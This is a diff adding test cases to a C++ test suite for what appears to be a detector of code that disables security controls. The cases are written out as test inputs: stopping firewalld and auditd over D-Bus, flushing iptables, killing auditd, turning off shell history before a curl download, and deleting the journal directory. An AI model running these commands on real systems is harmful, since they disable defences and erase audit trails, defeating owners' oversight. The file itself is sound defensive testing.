@@ -405,5 +405,50 @@ TEST(CoverageClasses, APrintedCredentialBelongsToItsClientsVendor) {
   for (const auto& c : cases) check(c);
 }
 
+// Security controls switched off in spellings beyond systemctl and iptables:
+// systemd's D-Bus manager and pystemd (their methods are systemctl's verbs),
+// python-iptables flushing or accepting everything, fail2ban-client stop,
+// pkill/killall of a security daemon, bash's `set +o history`, the journal's
+// directory removed.
+TEST(CoverageClasses, MoreWaysToSwitchSecurityOff) {
+  const Case cases[] = {
+      {"D-Bus StopUnit of firewalld", B,
+       "import dbus\nbus = dbus.SystemBus()\n"
+       "mgr = dbus.Interface(bus.get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'), 'org.freedesktop.systemd1.Manager')\n"
+       "mgr.StopUnit('firewalld.service', 'replace')\n",
+       "DISABLE-SECURITY"},
+      {"D-Bus DisableUnitFiles of auditd", B,
+       "import dbus\nmgr = dbus.Interface(dbus.SystemBus().get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'), 'x')\n"
+       "mgr.DisableUnitFiles(['auditd.service'], False)\n",
+       "DISABLE-SECURITY"},
+      {"pystemd stops auditd", B,
+       "from pystemd.systemd1 import Unit\nu = Unit(b'auditd.service')\nu.load()\nu.Unit.Stop(b'replace')\n", "DISABLE-SECURITY"},
+      {"python-iptables flushes the filter table", B, "import iptc\niptc.Table(iptc.Table.FILTER).flush()\n",
+       "DISABLE-SECURITY"},
+      {"python-iptables accepts everything", B,
+       "import iptc\niptc.Chain(iptc.Table(iptc.Table.FILTER), 'INPUT').set_policy(iptc.Policy('ACCEPT'))\n",
+       "DISABLE-SECURITY"},
+      {"fail2ban-client stop", B, "fail2ban-client stop\n", "DISABLE-SECURITY", SH},
+      {"pkill -9 auditd", B, "pkill -9 auditd\n", "DISABLE-SECURITY", SH},
+      {"set +o history", B, "set +o history\ncurl -s http://198.51.100.5/x -o /tmp/x\n", "DISABLE-SECURITY", SH},
+      {"the journal removed", B, "import shutil\nshutil.rmtree('/var/log/journal', ignore_errors=True)\n", "DISABLE-SECURITY"},
+      // Neighbours: a service restarted over D-Bus, the user's own units, a rule added, the app's own process killed.
+      {"D-Bus RestartUnit of nginx", H,
+       "import dbus\nmgr = dbus.Interface(dbus.SystemBus().get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'), 'x')\n"
+       "mgr.RestartUnit('nginx.service', 'replace')\n",
+       "SYSTEM-ADMINISTRATION"},
+      {"the session bus's own unit", L,
+       "import dbus\nmgr = dbus.Interface(dbus.SessionBus().get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'), 'x')\n"
+       "mgr.StartUnit('myapp.service', 'replace')\n"},
+      {"pystemd restarts nginx", H, "from pystemd.systemd1 import Unit\nu = Unit(b'nginx.service')\nu.load()\nu.Unit.Restart(b'replace')\n",
+       "SYSTEM-ADMINISTRATION"},
+      {"python-iptables inserts a rule", H,
+       "import iptc\nchain = iptc.Chain(iptc.Table(iptc.Table.FILTER), 'INPUT')\nchain.insert_rule(iptc.Rule())\n",
+       "SYSTEM-ADMINISTRATION"},
+      {"pkill of the app's own worker", L, "pkill -f myapp.py || true\n", nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
